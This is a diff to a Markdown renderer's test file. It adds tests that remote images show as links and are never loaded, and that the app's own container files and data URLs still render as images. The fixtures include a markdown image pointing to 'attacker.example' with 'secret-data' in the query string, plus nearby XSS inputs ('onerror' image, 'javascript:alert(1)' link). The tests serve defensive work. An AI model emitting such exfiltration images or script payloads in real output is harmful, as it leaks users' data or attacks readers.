@@ -46,6 +46,20 @@ describe("Markdown", () => {
     expect(html).toContain("&lt;img src=x onerror=");
   });
 
+  it("shows a remote image as a link, never loading it", () => {
+    const html = render("![chart](https://attacker.example/p.png?d=secret-data)");
+    expect(html).not.toContain("<img");
+    expect(html).toContain('href="https://attacker.example/p.png?d=secret-data"');
+    expect(html).toContain("Image: chart");
+  });
+
+  it("shows images of our own: code interpreter files and data URLs", () => {
+    expect(render("![plot](/api/container_files/content?file_id=cfile_1)")).toContain(
+      '<img src="/api/container_files/content?file_id=cfile_1" alt="plot"',
+    );
+    expect(render("![dot](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
+  });
+
   it("drops javascript: links", () => {
     const html = render("[click](javascript:alert(1))");
     expect(html).not.toContain("javascript:");
